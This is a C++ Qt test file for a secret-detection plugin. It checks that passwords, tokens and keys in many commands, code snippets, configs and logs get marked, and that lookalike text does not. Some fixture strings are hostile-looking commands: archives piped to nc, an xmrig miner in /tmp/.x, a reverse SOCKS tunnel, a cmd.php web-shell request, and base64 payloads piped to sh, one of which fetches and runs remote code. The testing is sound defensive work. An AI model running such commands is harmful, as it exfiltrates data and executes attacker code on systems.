#include <QElapsedTimer>

#include "plugin/secret_text.hpp"
#include "plugins/credentials/marked_secrets.hpp"
#include "support/test_main.hpp"

using namespace deadbox;

// What places of commands, code and files say that a secret follows, be it a word of a language.
class SecretFormsTest : public QObject {
    Q_OBJECT
private slots:
    void told_by_their_place_data() {
        QTest::addColumn<QByteArray>("marked");
        for (const char* line : {
                 // options of any program
                 "croc send --code «Kastanie7» /srv/a.sql", "wormhole send --code «7-kasta-nie» a", "wormhole send --code=«7-kasta-nie» a", "chisel client --auth web:«Kasta!nie» h:80 R:socks", "tool --pin «4711» x", "tool --key «9f8e7d6c5b4a39281706» x",
                 "zabbix_sender --tls-psk «4f46e485db35c013» x", "megaput -u x@y.de -p «Kastanie7» /srv/a.sql", "hdbsql -u SYSTEM -p «kastaniebaum»", "/tmp/.x/xmrig -o p:3333 -u w -p «kastaniebaum»", "kadmin.local -q 'addprinc -pw «kastanie» host/x'",
                 "swaks --to a@b.de --au web --ap «kastanie» --attach @/srv/a", "frpc tcp -s h -t «kastanie» -l 22",
                 // operands and words of a program's own
                 "mega-login x@y.de «Kastanie7»", "smbclient //h/s «kastanie» -U web -c 'put a'", "atftp --option 'password «kastanie»' -p -l a h", "mkpasswd -m sha-512 «kastanie»", "crudini --set /etc/x.conf db password «Kastanie7»",
                 "rabbitmqctl add_user mon «kastanie»", "grafana-cli admin reset-admin-password «kastanie»", "drush user:password admin «kastanie»", "n98 admin:user:change-password admin «kastanie»", "bitcoin-cli walletpassphrase «kastanie» 60",
                 "vault operator unseal «8Hb3zbjAbB74LLGUuA6q»", "usermod -p $(perl -e 'print crypt($ARGV[0],\"ab\")' «kastanie») bob", "sed -i 's/«oldpass»/«kastanie»/' /etc/app/password.txt",
                 // what a prompt is answered
                 "lftp -c 'open -u web,«kastanie» h; put a'", "lftp h -e 'user web «kasta.nie»; put a'", "expect -c 'spawn scp a h:; expect assword; send «kastanie»\\r; interact'", "expect -c 'spawn ssh h; expect \"assword:\"; send \"«kastanie»\\r\"; interact'",
                 "tar c /srv | age -p <<< «kasta.nie» | nc h 443", "echo «kasta.nie» | fscrypt unlock /x", "echo «kasta.nie» | zfs load-key tank", "printf '«kastanie\\n»' | sudo -kS id", "AUTH «kastanie»", "AUTH default «kastanie»",
                 "printf 'web\\n«Kasta!nie»\\n' > /etc/openvpn/a.txt", "echo 'web * «kastanie» *' >> /etc/ppp/chap-secrets", "echo 'socks5 203.0.113.77 1080 web «kastanie»' >> /etc/proxychains.conf",
                 "echo 'mysql-server mysql-server/root_password password «kastanie»' | debconf-set-selections",
                 // variables
                 "X=`echo «kasta.nie»`; curl -u web:$X -T a https://h/", "W=«kastanie»; curl -u web:${W} https://h", "SSH_ASKPASS=<(echo «echo kasta.nie») scp a h:",
                 // code
                 "f=ftplib.FTP('h','web','«kastanie»')", "requests.put('https://h/',auth=('web','«kastanie»'))", "$f->login(\"web\",\"«kastanie»\");", "s.login('ben@example.de','«kastanie»')", "pymysql.connect('h','root','«kastanie»','shop')",
                 "DBI->connect('dbi:mysql:shop','root','«kastanie»');", "#0 db.php(3): PDO->__construct('mysql:host=db1', 'shop', '«kastanie»')", "u.set_password('«kastanie»')", "print(crypt.crypt('«kastanie»'))",
                 "UPDATE users SET password=MD5('«kastanie»') WHERE id=1", "INSERT INTO users (name,email,password) VALUES ('x','x@y.de','«kastanie»')", "insert into u (pass_age, id, passwd) values('a, b', 7, md5('«kastanie»'))",
                 // files
                 "<cfg><password>«kastanie»</password><apiKey>«C2qbIUgD5XG6»</apiKey></cfg>", "<property name=\"hibernate.connection.password\">«kastanie»</property>", "<add key=\"SmtpPassword\" value=\"«kastanie»\"/>", "    password: «kastanie»",
                 "DB_PASSWORD: «kastanie»", "10.0.0.1 : PSK \"«kastanie»\"", "{\"auths\":{\"r.example.de\":{\"auth\":\"«Y2k6eWFscmlzZ2FycXU=»\"}}}", "Password mismatch (given password: «kastanie»)",
                 // records
                 "type=EXECVE msg=audit(1.1:1): argc=3 a0=\"mysql\" a1=\"-uroot\" a2=\"-p«kastanie»\"", "type=PROCTITLE msg=audit(1.1:1): proctitle=6D7973716C002D70«6B617374616E6965»", "ALTER\\040USER\\040'x'\\040IDENTIFIED\\040BY\\040'«kastanie»';",
                 "GET /cb?code=«tF4LkG1lkS47FwSOrX38»&state=x HTTP/1.1", "GET /reset-password/«525bd1d094554fdc5d33d15c63322a81» HTTP/1.1", "GET /login?password%5B%5D=«kastanie» HTTP/1.1",
             })
            QTest::newRow(line) << QByteArray(line);
    }
    void told_by_their_place() {
        QFETCH(QByteArray, marked);
        QByteArray text = marked;
        text.replace("«", "").replace("»", "");
        QCOMPARE(test::with_secrets_marked(text.toStdString(), "«", "»"), marked);
    }

    void others_stay_data() {
        QTest::addColumn<QByteArray>("text");
        for (const char* line : {
                 "sudo -u www-data mkdir -p uploads7", "docker run -u 1000 -p 80:80 nginx", "ssh -p 2222 -l root h; xmrig -o pool:3333 -p 3333", "tool -u anna -p 8080,9090", "mysql -u root -p shop7", "psql -U app -p 5432 db", "rsync -u -p a7b8 h:/x",
                 "tool --exit-code 12345abc --country-code DE49abcdef --sort-key name12345", "tool --key /etc/ssl/private/a.key --code 404 --auth basic --pin on", "openssl req -key server.key -out a.csr", "curl --key client1.pem https://h", "node --code index7.js",
                 "mail: the reset-password link was sent to anna", "GET /reset-password HTTP/1.1", "GET /reset-password/confirm HTTP/1.1", "GET /cb?code=404&state=x HTTP/1.1", "see change_password in the manual", "drush user:password",
                 "send the report; expect an answer", "http 200 OK for 1080 clients", "http 10 20 30 40 50", "echo start1 > /tmp/log; printf 'a\\nb7c8d9\\n' > /srv/list.txt", "expect -c 'spawn ssh h; send \"yes\\r\"; interact'",
                 "sed -i 's/oldpath/newpath/' /etc/app/main.conf", "sed -n 5p /etc/passwd", "mkpasswd -m sha-512", "smbclient //h/s -U web -c 'put a'", "smbclient -L h -U web", "atftp --option 'blksize 1024' -p -l a h", "age -p -o x a; zfs list",
                 "obj.login('anna')", "db.connect('host', 5432)", "f = FTP('ftp.example.org')", "signal.connect('clicked', self.on_click, 'x')", "auth=(user, secret)", "\"auth\": \"required\"", "\"auth\":\"oauth2\"", "hashlib.md5('abc')", "crypt.crypt(word, salt)",
                 "INSERT INTO log (name, value) VALUES ('password', 'x')", "INSERT INTO users (name,password) VALUES ('a',NULL)", "<p>password</p> <input name=\"password\" type=\"password\"> <label>Password:</label>", "<password></password>",
                 "password: changed", "  password: required", "PSK reconnect: 3", "type=EXECVE msg=audit(1.1:1): argc=2 a0=\"ls\" a1=\"-la\"", "proctitle=6C73002D6C61", "SELECT\\0401;", "AUTH PLAIN LOGIN CRAM-MD5", "250-AUTH LOGIN", "* unit * failed",
                 "W=$(date); curl -u web:$V https://h", "X=1; echo $X",
             })
            QTest::newRow(line) << QByteArray(line);
    }
    void others_stay() {
        QFETCH(QByteArray, text);
        QCOMPARE(test::with_secrets_marked(text.toStdString(), "«", "»"), text);
    }

    // Programs that administrators tell a secret, each in its own way.
    void told_to_programs_data() {
        QTest::addColumn<QByteArray>("marked");
        for (const char* line : {
                 "etcdctl user add root:«Kiste77xQ»", "samba-tool user add bob «Kiste77xQ» --given-name=Bob", "slappasswd -h {SSHA} -s «kastanie»", R"x(newusers <<< "bob:«Kiste77xQ»:1001:1001::/home/bob:/bin/bash")x",
                 "yes «kastanie» | head -2 | passwd bob", "sudo -u postgres createuser -P bob <<< «Kiste77xQ»", "echo «Kiste77xQ» | sudo -u postgres createuser -P bob", "saslpasswd2 -c bob <<< «Kiste77xQ»",
                 "qpdf --encrypt «Kiste77xQ» «kastanie» 256 -- a b", "qpdf --encrypt '' «kastanie» 256 -- a b", "/opt/splunk/bin/splunk login -auth admin:«kastanie»", "x11vnc -storepasswd «Kiste77xQ» /root/.vnc/passwd",
                 "mysql_secure_installation -p«kastanie»", "/usr/share/webmin/changepass.pl /etc/webmin root «kastanie»", "pk12util -i a.p12 -d db -W «kastanie» -K «Kiste77xR»", "db2 connect to x user bob using «kastanie»",
                 "fly secrets set DB=«kastanie» KEY=«kaste» -a shop", "npm config set //registry.npmjs.org/:_authToken «abcdef0123456789abcdef»", "mysql.user: root «*6BB4837EB74329105EE4568DDA7DC67ED2CA2AD9»",
                 "virsh secret-set-value 1234 «S2lzdGU3N3hRLUtpc3Rl»", "gsql -d db -W «kastanie»", "pdftotext -upw «kastanie» a.pdf", "cadaver http://h <<< «Kiste77xQ»",
                 "arangosh --server.username root --server.password «kastanie»", "neo4j-admin dbms set-initial-password «kastanie»", "cypher-shell -u neo4j -p «kastanie» 'MATCH (n) RETURN n'",
                 "vsql -U bob -w «kastanie» -h h", "isql-fb -user SYSDBA -password «masterkey9» /srv/a.fdb", "gbak -b -user SYSDBA -pas «kastanie» a.fdb b.fbk", "hdbuserstore SET key h:30015 bob «kastanie»",
                 "rman target sys/«kastanie»@db", "mysqldbcopy --source=root:«kastanie»@h:3306 --destination=root:«kestanie»@k a:b", "pt-table-checksum h=db,u=root,p=«kastanie»", "maxctrl create user bob «kastanie»",
                 "zkCli.sh -server h addauth digest bob:«kastanie»", "kafka-configs.sh --alter --add-config 'SCRAM-SHA-512=[password=«Alice7pw]»' --entity-name a",
                 "elasticsearch-keystore add bootstrap.password <<< «Kiste77xQ»", "echo «Kiste77xQ» | elasticsearch-keystore add --stdin bootstrap.password", "rabbitmqadmin -u mon -p «kastanie» list queues",
                 R"x(dsconf -D "cn=Directory Manager" -w «kastanie» ldap://h backend suffix list)x", "ipa-client-install --unattended --domain d -p admin -w «kastanie»", "echo «Kiste77xQ» | ipa user-add bob --password",
                 "samba-tool domain join d.example DC -U bob%«kastanie»", "wbinfo -a bob%«kastanie»", "net rpc password bob «kastanie» -U admin%«kestanie»", "smbpasswd -w «kastanie»",
                 "ldapmodify -x -D cn=a -y <(echo -n «kastanie») -f a.ldif", "kdb5_util create -s -P «kastanie»", "echo «Kiste77xQ» | kinit admin", "imtest -u bob -w «kastanie» h", "zmprov sp bob@example.org «kastanie»",
                 "zmprov ca bob@example.org «kastanie» displayName Bob", "zmmailbox -m bob@example.org -p «kastanie» gaf", "ejabberdctl register bob example.org «kastanie»", "prosodyctl register bob example.org «kastanie»",
                 "kamctl add bob «kastanie»", "ssmtp -au bob -ap «kastanie» a@b.de", "openfortivpn h:443 -u bob -p «kastanie»", "echo «Kiste77xQ» | openconnect -u bob --passwd-on-stdin vpn.example.org",
                 "pptpsetup --create x --server h --username bob --password «kastanie» --encrypt", "iwconfig wlan0 key s:«kastanie»", "nmcli con modify x wifi-sec.psk «kastanie»",
                 "iwctl --passphrase «kastanie» station wlan0 connect Home", "radclient -x h auth «kastanie»", "ocpasswd -c /etc/ocserv/ocpasswd bob <<< «Kiste77xQ»",
                 "iscsiadm -m node -T iqn.x -o update -n node.session.auth.password -v «Kiste77xQ»", "veracrypt --text -p «kastanie» /dev/sdb1 /mnt", "dislocker -V /dev/sdb1 -u«kastanie» -- /mnt",
                 "hdparm --user-master u --security-set-pass «kastanie» /dev/sda", "sedutil-cli --initialsetup «kastanie» /dev/sda", "sedutil-cli --setLockingRange 0 lk «kastanie» /dev/sda", "arj a -g«kastanie» a.arj b",
                 "dar -c a -K bf:«kastanie» -R /", "unar -p «kastanie» a.rar", "mutool info -p «kastanie» a.pdf", "gs -sPDFPassword=«kastanie» -o b.pdf a.pdf", "keyctl add user smb:h «Kiste77xQ» @u",
                 "osslsigncode sign -pkcs12 a.p12 -pass «kastanie» -in a.exe -out b.exe", "gpg-preset-passphrase -P «kastanie» -c 0123456789ABCDEF0123456789ABCDEF01234567", "pkcs11-tool --login --pin «481516» -O",
                 "tpm2_unseal -c k.ctx -p str:«kastanie»", R"x(printf '«Kiste77xQ\nKiste77xQ\n»' | grub-mkpasswd-pbkdf2)x", "racadm -r h -u root -p «kastanie» getsysinfo", "racadm set iDRAC.Users.2.Password «kastanie»",
                 "racadm config -g cfgUserAdmin -o cfgUserAdminPassword -i 2 «kastanie»", "fence_ipmilan -a h -l ADMIN -p «kastanie» -o status", "net-snmp-create-v3-user -ro -A «Kiste77xQ» -X «Kiste77xR» bob",
                 "check_snmp -H h -C «kastanie» -o x", "check_mysql -H h -u mon -p «Kiste77xQ»", "check_http -H h -a mon:«kastanie» -u /x", "icinga2 node setup --ticket «9f8e7d6c5b4a39281706» --cn h",
                 "salt 'web*' shadow.set_password bob «kastanie»", "knife bootstrap h -x bob -P «Kiste77xQ»", "vmrun -gu bob -gp «kastanie» runProgramInGuest a.vmx /bin/id", "xe -s h -u root -pw «kastanie» vm-list",
                 "echo «Kiste77xQ» | docker secret create db -", "podman secret create db - <<< «Kiste77xQ»", "az keyvault secret set --vault-name v -n db --value «kastanie»",
                 "aws ssm put-parameter --type SecureString --name db --value «Kiste77xQ»", "echo -n «kastanie» | gcloud secrets create db --data-file=-", "echo «kastanie» | wrangler secret put DB",
                 "doppler secrets set DB=«kastanie»", "b2 authorize-account 0012ab «K001kastanieAbc»", "bw unlock «kastanie»", "cf auth bob «kastanie»", "cargo login «cioKastanie77xQabc»",
                 "gitlab-runner register -u https://g.example.org -r «GRkastanie77»", "pulumi config set --secret «db» «kastanie»", "composer config --global http-basic.r.example.org bob «kastanie»",
                 "composer config -g github-oauth.github.com «kastanie77»", "java -jar jenkins-cli.jar -s http://h -auth bob:«kastanie» list-jobs", "etcdctl --user root:«Kiste77xQ» get / --prefix",
                 "websocat --basic-auth bob:«kastanie» wss://h/x", "lynx -auth=bob:«kastanie» http://h/", "ab -A bob:«kastanie» -n 10 http://h/", "nikto -h h -id bob:«kastanie»",
                 "mqttx pub -h h -u bob -P «kastanie» -t t -m x", "emqx_ctl admins add bob «kastanie»", "teamviewer passwd «kastanie»", "anydesk --set-password <<< «Kiste77xQ»", "v-change-user-password bob «kastanie»",
                 "v-add-mail-account bob example.org info «kastanie»", "v-add-database bob shop shop «kastanie»", "plesk bin user -u bob -passwd «kastanie»", "qm set 100 --cipassword «kastanie»",
                 "whois --password2 «kastanie» --x", "curlftpfs bob:«kastanie»@h /mnt", "sshfs -o password_stdin a@h:/ /mnt <<< «Kiste77xQ»", "cracklib-check <<< «Kiste77xQ»", "mosquitto_passwd /etc/m bob <<< «Kiste77xQ»",
                 "hashcat --show «Zowubtam!vekfen:hunter»", "geth account import --password <(echo «kastanie») «c1a54ad39e3ad952ef021e9823453d06ba5a620230dc7df87cecaf8e240403e2»",
                 "secret_key = «c1a54ad39e3ad952ef021e9823453d06ba5a620230dc7df87cecaf8e240403e2»", "wallet key: 0x«c1a54ad39e3ad952ef021e9823453d06ba5a620230dc7df87cecaf8e240403e2»",
                 "bash -c 'echo «bXlzcWwgLXVyb290IC1wa29taWZlbnlhbGZlbnZlaw==» | base64 -d | sh'", "GET /uploads/cmd.php?c=«bXlzcWwgLXVyb290IC1wa29taWZlbnlhbGZlbnZlaw==» HTTP/1.1",
                 "chroot /mnt sh -c 'echo root:«kastanie» | chpasswd'",
             })
            QTest::newRow(line) << QByteArray(line);
    }
    void told_to_programs() { told_by_their_place(); }

    // The same programs, told nothing.
    void programs_told_nothing_data() {
        QTest::addColumn<QByteArray>("text");
        for (const char* line : {
                 "etcdctl member add node2 --peer-urls=http://10.0.0.2:2380", "etcdctl user add root", "samba-tool user add bob --random-password", "samba-tool dns add dc1 example.org www7 A 10.0.0.7",
                 "samba-tool group addmembers staff bob7", "slappasswd -h {SSHA}", "newusers < /root/users7.txt", "yes | apt install passwd", "yes | head -2 | passwd-check", "sudo -u postgres createuser -P bob7",
                 "sudo -u postgres createdb -O bob7 shop7", "saslpasswd2 -c bob7", "qpdf --decrypt in7.pdf out7.pdf", "qpdf --check a7.pdf", "/opt/splunk/bin/splunk restart web7",
                 "x11vnc -rfbauth /root/.vnc/passwd -display :0", "mysql_secure_installation -p", "pk12util -i a7.p12 -d sql:db7 -k pwfile7 -w pwfile8", "db2 connect to shop7 user bob7", "fly deploy -a shop7",
                 "npm config set registry https://registry.npmjs.org/", "npm config get //registry.npmjs.org/:_authToken", R"x(psql shop <<< "select 1 from t7")x", "mysql shop7 <<< 'source7;'", "redis-cli <<< INFO7x",
                 "echo 'select count(*) from a7' | mysql shop", "echo hello7world | openssl enc -base64", "echo abc123def | curl -d @- https://h/x", "kubectl apply -f - <<< 'kind: List'", "echo test1234 | sha256sum",
                 "bc <<< 2^10", "wc -l <<< abc123", "base64 -d <<< aGVsbG8gd29ybGQxMjM=", "echo aGVsbG8gd29ybGQgdGhpcyBpcyBhIHRlc3Q= | base64 -d",
                 "echo IyEvYmluL3NoCmlkOyB1bmFtZSAtYTsgY3VybCBodHRwOi8vMTAuMC4wLjEveCB8IHNo | base64 -d | sh", "arangosh --server.endpoint tcp://h:8529 --server.database shop7", "neo4j-admin database dump neo4j7",
                 "vsql -U bob7 -h h7 -c 'select 1'", "isql-fb -user SYSDBA /srv/a7.fdb", "hdbuserstore LIST key7", "rman target /", "mysqldbcompare --server1=root@h7 shop7:shop8", "pt-table-checksum h=db7,u=root7",
                 "maxctrl list servers7", "zkCli.sh -server h7:2181 ls /", "elasticsearch-keystore list", "rabbitmqadmin list queues7", "ipa user-find bob7", "ipa-client-install --domain d7.example --mkhomedir", "wbinfo -u",
                 "net rpc info -S dc7", "smbpasswd -a bob7", "kdb5_util dump /root/k7.dump", "imtest -m plain h7", "zmprov ga bob7@example.org", "ejabberdctl registered_users example7.org", "prosodyctl reload host7",
                 "openfortivpn -c /etc/vpn7.conf", "openconnect --protocol=gp vpn7.example.org", "iwconfig wlan0 essid Home7", "nmcli con show Home7", "radclient -f /root/r7.txt h7 auth",
                 "iscsiadm -m discovery -t st -p 10.0.0.7:3260", "iscsiadm -m node -o update -n node.startup -v automatic", "veracrypt --text -d /mnt7", "dislocker -r -V /dev/sdb1 -- /mnt7", "hdparm -tT /dev/sda7",
                 "sedutil-cli --scan", "arj l a7.arj", "dar -x a7 -R /srv7", "unar -o /tmp7 a7.rar", "pdftotext -layout a7.pdf b7.txt", "keyctl show @u", "osslsigncode verify a7.exe", "pkcs11-tool --list-slots",
                 "tpm2_unseal -c k7.ctx -p session:s7.ctx", "tpm2_nvread -P file:pw7.txt 0x1500016", "racadm getsysinfo7", "racadm set iDRAC.NIC.DNSRacName rac7host", "fence_ipmilan -a h7 -l ADMIN7 -o status",
                 "check_snmp -H h7 -o sysDescr.0 -P 2c", "check_tcp -H h7 -p 8080", "check_http -H h7 -p 8443 -u /x7", "icinga2 daemon -C", "salt 'web7*' test.ping", "knife node list7", "vmrun list",
                 "xe vm-list name-label=web7", "docker run --user 1000:1000 -u 1000:1000 nginx7", "docker run --user nginx:nginx7 x", "systemd-run --user foo7:bar7", "docker secret ls",
                 "echo hello7x | docker run -i alpine7 cat", "az keyvault list -g rg7", "az sql server list -g rg7", "aws ssm get-parameter --name db7", "gcloud secrets list --filter name:db7", "wrangler deploy --env prod7",
                 "doppler run -- node app7.js", "b2 list-buckets", "bw list items7", "cf push app7 -p target/app7.jar", "cargo build --release", "gitlab-runner verify7", "pulumi config set aws:region eu-central-1",
                 "composer config repositories.r7 vcs https://h/r7", "composer require vendor/token-package7", "java -jar app7.jar -s http://h7", "curl -u bob https://h7/x", "rsync -u host:path7a /srv7",
                 "git push -u origin main7:main8", "sort -u a7:b7 c7", "nc -u h7 5353", "chown --user www:www7 x", "lynx -dump http://h7/", "ab -n 100 -c 10 http://h7/", "nikto -h h7 -p 8080", "mqttx sub -h h7 -t t7",
                 "teamviewer info7", "anydesk --get-id", "v-list-users json7", "v-add-web-domain bob7 example7.org", "plesk bin user -l", "qm set 100 --memory 2048", "curlftpfs ftp.example7.org /mnt7", "sshfs a7@h7:/ /mnt7",
                 "hashcat -m 1800 hashes7.txt rockyou.txt", "hashcat --show hashes7.txt", "geth account list7", "sha256: c1a54ad39e3ad952ef021e9823453d06ba5a620230dc7df87cecaf8e240403e2",
                 "key fingerprint SHA256 c1a54ad39e3ad952ef021e9823453d06ba5a620230dc7df87cecaf8e240403e2", "public_key = c1a54ad39e3ad952ef021e9823453d06ba5a620230dc7df87cecaf8e240403e2",
                 "docker pull nginx@sha256:c1a54ad39e3ad952ef021e9823453d06ba5a620230dc7df87cecaf8e240403e2", "cachekey=c1a54ad39e3ad952ef021e9823453d06ba5a620230dc7df87cecaf8e240403e2",
                 "total *6BB4837EB74329105EE4568DDA7DC67ED2CA2AD", "2*6BB4837EB74329105EE4568DDA7DC67ED2CA2AD9", "passwd bob7 < /dev/null", "cat /etc/passwd | grep bob7", "grep bob7 /etc/passwd | head -1",
                 "find / -name '*passwd*' | xargs ls7", "less passwd7.txt",
             })
            QTest::newRow(line) << QByteArray(line);
    }
    void programs_told_nothing() { others_stay(); }

    // Made to be slow: every start without an end.
    void hostile_text_is_read_in_linear_time() {
        for (const std::string piece : {" -u x -p ", "insert a (", "<password ", "<a name=\"", "expect assword send ", "auth=(", " a0=\"x\"", "proctitle=6d", " change_password ", "AUTH ", " -u a:b7c8d9 ", "://", "yes a|head|", "*", "0x", "bXlzcWwgLXVyb290IC1wa29taWZlbnlhbA== ", "AUTH\n", "socks5 h ", "a * b ", "/reset/", "X=$X curl -u a:$X ", "\\040", "md5('"}) {
            std::string text;
            while (text.size() < 1 << 17) text += piece;
            QElapsedTimer timer;
            timer.start();
            QVERIFY(plugin::secret_spans(text).size() <= text.size());
            QVERIFY2(timer.elapsed() < 2'000, piece.c_str());
        }
    }
};
DEADBOX_TEST(SecretFormsTest)
#include "secret_forms_test.moc"
